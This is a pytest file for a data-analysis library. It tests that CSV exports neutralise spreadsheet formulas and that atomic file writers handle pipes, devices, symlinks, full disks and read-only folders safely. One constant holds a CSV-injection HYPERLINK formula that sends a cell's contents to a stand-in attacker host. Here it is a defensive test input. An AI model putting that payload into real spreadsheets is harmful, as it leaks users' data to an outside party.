"""Files the workbook writes for people (issue 15, items 9, 10 and part of 5).

- formula-like text is neutralised in exported tables (CSV injection), numbers are not;
- the atomic writers refuse to replace a folder, device, FIFO or socket, and write through a
  symbolic link to its file (the link stays);
- a full disk or a read-only folder is a one-line DataError naming the path asked for, with no
  temporary file left behind;
- example segments are taken only from segments that keep their text.
"""

from __future__ import annotations

import csv
import dataclasses
import errno
import io
import os
import socket
import stat
from pathlib import Path

import pandas as pd
import pytest

import coprodlib as cp
from coprodlib import _io
from coprodlib.analysis.describe import example_segments
from coprodlib.cli import main
from coprodlib.demo import writer as demo
from coprodlib.taxonomy.export import export_codebook
from coprodlib.workbook.notebook import save_table

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=", "-x"]
NUMBERS = ["-1.5", "+3", "-2e3", "12", ".5", "-0.25"]


def cells(path: Path) -> list[list[str]]:
    """A CSV file's rows as the text a spreadsheet would get, header included."""
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def risky(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and _io._NUMBER_RE.match(cell) is None


# --------------------------------------------------------------------------- formulas


def test_formula_like_text_gets_an_apostrophe_and_numbers_stay() -> None:
    frame = pd.DataFrame(
        {HYPERLINK: FORMULAS + NUMBERS[:0], "number": range(len(FORMULAS))},
        index=pd.Index([f"@row{i}" for i in range(len(FORMULAS))], name="-idx"),
    )
    frame.columns.name = "+cols"
    out = _io.neutralise_formulas(frame)
    assert out[f"'{HYPERLINK}"].tolist() == ["'" + v for v in FORMULAS]
    assert out["number"].tolist() == list(range(len(FORMULAS)))  # numbers are not touched
    assert out.index.tolist() == [f"'@row{i}" for i in range(len(FORMULAS))]
    assert out.index.name == "'-idx" and out.columns.name == "'+cols"
    assert frame[HYPERLINK].tolist() == FORMULAS  # the input is left as it was
    numbers = pd.DataFrame({"text": NUMBERS, "value": [-1.5, 3.0, -2e3, 12, 0.5, -0.25]})
    pd.testing.assert_frame_equal(_io.neutralise_formulas(numbers), numbers)


def test_neutralising_handles_categories_and_a_multiindex() -> None:
    frame = pd.DataFrame(
        {"role": pd.Categorical(["=cmd", "citizen"]), "n": [1, 2]},
        index=pd.MultiIndex.from_tuples([("=a", 1), ("b", 2)], names=["@case", "k"]),
    )
    out = _io.neutralise_formulas(frame)
    assert out["role"].tolist() == ["'=cmd", "citizen"]
    by_role = _io.neutralise_formulas(frame.groupby("role", observed=True)[["n"]].sum())
    assert by_role.index.tolist() == ["'=cmd", "citizen"]  # a CategoricalIndex
    assert out.index.tolist() == [("'=a", 1), ("b", 2)]
    assert out.index.names == ["'@case", "k"]


@pytest.fixture(scope="module")
def formula_data(tmp_path_factory) -> cp.Dataset:
    from test_escaping import hostile_folder

    return cp.load(hostile_folder(tmp_path_factory.mktemp("formulas"), HYPERLINK))


def test_case_tables_are_saved_without_live_formulas(formula_data, tmp_path: Path) -> None:
    ds = formula_data
    case_id = ds.case_ids[0]
    case = cp.select_cases(ds, case_id)
    save_table(cp.case_profile(ds, case_id), "profile", tmp_path)
    save_table(cp.case_overview(ds), "cases", tmp_path)
    save_table(cp.dimension_counts(case, "effect", by="role"), "effects_by_role", tmp_path)
    wide = cp.dimension_counts(case, "effect", by="role").pivot_table(
        index="label", columns="role", values="n_segments", aggfunc="sum"
    )
    save_table(wide, "wide", tmp_path)  # labels as index and in the columns' name
    for name in ("profile", "cases", "effects_by_role", "wide"):
        rows = cells(tmp_path / "tables" / f"{name}.csv")
        flat = [c for row in rows for c in row]
        assert not [c for c in flat if risky(c)], name
        assert f"'{HYPERLINK}" in flat, name  # the value is there, as text
    profile = cells(tmp_path / "tables" / "profile.csv")
    assert ["title", f"'{HYPERLINK}"] in profile


def test_codebook_csv_export_neutralises_extension_labels(formula_data, tmp_path: Path) -> None:
    out = export_codebook(tmp_path / "cb.csv", fmt="csv", cb=formula_data.codebook)
    rows = cells(out)
    row = next(r for r in rows if r[0] == "local_harm")
    assert f"'{HYPERLINK}" in row
    assert not [c for r in rows for c in r if risky(c)]


def test_dataset_tables_keep_their_cells_verbatim(tmp_path: Path) -> None:
    # write_csv writes a dataset's own tables, which must read back exactly as written
    frame = pd.DataFrame({"text": ["- a quote that starts with a dash", "=x"]})
    rows = cells(_io.write_csv(frame, tmp_path / "segments.csv"))
    assert rows[1:] == [["- a quote that starts with a dash"], ["=x"]]


# --------------------------------------------------------------------------- special files


def test_a_fifo_is_refused_and_stays(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this platform")
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with pytest.raises(cp.DataError, match=r"pipe.*regular file.*named pipe"):
        export_codebook(pipe, fmt="csv")
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe"]


def test_cli_export_to_a_fifo_exits_1_with_one_line(tmp_path: Path, capsys) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this platform")
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    assert main(["codebook", "export", "--format", "md", str(pipe)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and str(pipe) in err and "named pipe" in err
    assert "Traceback" not in err
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)


def test_dev_null_is_refused_and_never_renamed_over(tmp_path: Path, monkeypatch) -> None:
    null = Path(os.devnull)
    if not null.exists() or not stat.S_ISCHR(os.stat(null).st_mode):
        pytest.skip(f"{null} is not a character device here")
    real_replace = os.replace

    def guarded(src, dst, *args, **kwargs):  # never let a bug replace the machine's /dev/null
        assert Path(dst) != null, "tried to rename over /dev/null"
        return real_replace(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", guarded)
    with pytest.raises(cp.DataError, match=r"devnull|/dev/null.*a device"):
        _io.write_bytes_atomic(null, b"x")
    assert stat.S_ISCHR(os.stat(null).st_mode)
    assert not [p for p in null.parent.glob(".null.*.tmp")]


def test_a_folder_and_a_socket_are_refused(tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    with pytest.raises(cp.DataError, match="a folder"):
        _io.write_text_atomic(folder, "x")
    assert folder.is_dir()
    if not hasattr(socket, "AF_UNIX"):
        return
    sock_path = tmp_path / "s"
    with socket.socket(socket.AF_UNIX) as sock:
        try:
            sock.bind(str(sock_path))
        except OSError:  # a path too long for a socket name: the folder case was checked
            return
        with pytest.raises(cp.DataError, match="a socket"):
            _io.write_text_atomic(sock_path, "x")
        assert stat.S_ISSOCK(os.lstat(sock_path).st_mode)


def test_a_symlink_is_written_through_and_stays_a_link(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "codebook.md"
    target.write_text("old")
    link = tmp_path / "codebook.md"
    link.symlink_to(target)
    out = export_codebook(link, fmt="md")
    assert out == link and link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text(encoding="utf-8").startswith("# The coprod codebook")
    assert sorted(p.name for p in (tmp_path / "real").iterdir()) == ["codebook.md"]


def test_a_broken_or_looping_symlink_is_refused(tmp_path: Path) -> None:
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "missing" / "x.csv")
    loop_a, loop_b = tmp_path / "a.csv", tmp_path / "b.csv"
    loop_a.symlink_to(loop_b)
    loop_b.symlink_to(loop_a)
    for link in (dangling, loop_a):
        with pytest.raises(cp.DataError, match="symbolic link that leads to no file"):
            _io.write_text_atomic(link, "x")
        assert link.is_symlink()
    assert not (tmp_path / "missing").exists()


# --------------------------------------------------------------------------- full or read-only


class _FullDisk(io.RawIOBase):
    """A file object whose writes fail as on a full disk, naming the temporary file."""

    def __init__(self, fd: int) -> None:
        self.fd = fd

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        raise OSError(errno.ENOSPC, "No space left on device", f"/proc/self/fd/{self.fd}.tmp")

    def close(self) -> None:
        if not self.closed:
            os.close(self.fd)
        super().close()


WRITERS = {
    "bytes": lambda p: _io.write_bytes_atomic(p, b"x"),
    "text": lambda p: _io.write_text_atomic(p, "x"),
    "csv": lambda p: _io.write_csv(pd.DataFrame({"a": [1]}), p),
    "export_csv": lambda p: _io.write_export_csv(pd.DataFrame({"a": [1]}), p),
    "codebook": lambda p: export_codebook(p, fmt="qdc"),
    "save_table": lambda p: save_table(pd.DataFrame({"a": [1]}), p.stem, p.parent.parent),
}


def _target(tmp_path: Path, writer: str) -> Path:
    folder = tmp_path / "out"
    return folder / "tables" / "t.csv" if writer == "save_table" else folder / "t.csv"


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_full_disk_is_a_dataerror_naming_the_path(tmp_path, monkeypatch, writer) -> None:
    path = _target(tmp_path, writer)
    path.parent.mkdir(parents=True)
    path.write_text("before")
    monkeypatch.setattr(os, "fdopen", lambda fd, *a, **k: _FullDisk(fd))
    with pytest.raises(cp.DataError) as caught:
        WRITERS[writer](path)
    message = str(caught.value)
    assert message.startswith(str(path)) and "no space left on the device" in message
    assert ".tmp" not in message and "\n" not in message
    assert caught.value.__cause__ is None and caught.value.__suppress_context__
    assert path.read_text() == "before"  # the old file is untouched
    assert sorted(p.name for p in path.parent.iterdir()) == ["t.csv"]  # no temporary file


def test_cli_export_on_a_full_disk_exits_1_with_one_line(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(os, "fdopen", lambda fd, *a, **k: _FullDisk(fd))
    out = tmp_path / "cb.qdc"
    assert main(["codebook", "export", str(out)]) == 1
    err = capsys.readouterr().err
    assert (
        err
        == f"error: {out}; expected a file that can be written (the system says: no space left on the device)\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_permission_denied_is_a_dataerror_naming_the_path(tmp_path, monkeypatch) -> None:
    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path / ".t.csv.x.tmp"))

    monkeypatch.setattr(_io.tempfile, "mkstemp", refuse)
    path = tmp_path / "t.csv"
    with pytest.raises(cp.DataError, match=r"t\.csv; expected a file that can be written") as e:
        _io.write_text_atomic(path, "x")
    assert "permission denied" in str(e.value) and ".tmp" not in str(e.value)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root ignores modes")
def test_a_read_only_folder_is_a_dataerror(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        assert main(["codebook", "export", "--format", "csv", str(folder / "cb.csv")]) == 1
        err = capsys.readouterr().err
        assert str(folder / "cb.csv") in err and "permission denied" in err
        assert err.count("\n") == 1
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o700)


# --------------------------------------------------------------------------- quotes


@pytest.fixture(scope="module")
def one_case(tmp_path_factory) -> cp.Dataset:
    return cp.load(demo.write_demo(tmp_path_factory.mktemp("quotes") / "d", seed=7, n_cases=1))


def test_examples_come_only_from_segments_that_keep_their_text(one_case) -> None:
    ds = one_case
    segs = ds.segments.copy()
    ids = sorted(segs["segment_id"])
    # an import that kept the text of every third segment only; blanks count as no text
    keep = set(ids[::3])
    segs["text"] = [
        t if s in keep else ("  " if i % 2 else pd.NA)
        for i, (s, t) in enumerate(zip(segs["segment_id"], segs["text"], strict=True))
    ]
    partial = dataclasses.replace(ds, segments=segs)
    quotes = example_segments(partial, n=2)
    assert len(quotes) > 0
    assert quotes["text"].notna().all() and (quotes["text"].str.strip() != "").all()
    assert set(quotes["segment_id"]) <= keep
    # per code, the first two kept segments in id order (computed here from the tables)
    codings = ds.codings.astype({"code": str, "segment_id": str})
    codings = codings[codings["code"].isin(set(quotes["code"]))]
    expected = (
        codings[codings["segment_id"].isin(keep)]
        .drop_duplicates(["segment_id", "code"])
        .sort_values(["code", "segment_id"])
        .groupby("code")
        .head(2)
    )
    assert list(zip(quotes["code"], quotes["segment_id"], strict=True)) == list(
        zip(expected["code"], expected["segment_id"], strict=True)
    )


def test_no_text_on_the_coded_segments_is_a_note_not_a_crash(one_case) -> None:
    ds = one_case
    tension_segments = set(cp.codings_of(ds, "tension")["segment_id"])
    segs = ds.segments.copy()
    segs.loc[segs["segment_id"].isin(tension_segments), "text"] = pd.NA
    if segs["text"].isna().all():
        pytest.skip("every segment of this demo carries a tension")
    with pytest.raises(cp.DataError, match="segments coded with 'tension' that keep their text"):
        example_segments(dataclasses.replace(ds, segments=segs))


def test_written_files_follow_the_umask_and_keep_a_replaced_files_mode(tmp_path):
    import os

    from coprodlib._io import write_bytes_atomic

    old = os.umask(0o022)
    try:
        new = write_bytes_atomic(tmp_path / "index.html", b"x")
        assert new.stat().st_mode & 0o777 == 0o644  # readable by others, as the umask allows
        os.chmod(new, 0o640)
        write_bytes_atomic(new, b"y")
        assert new.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)
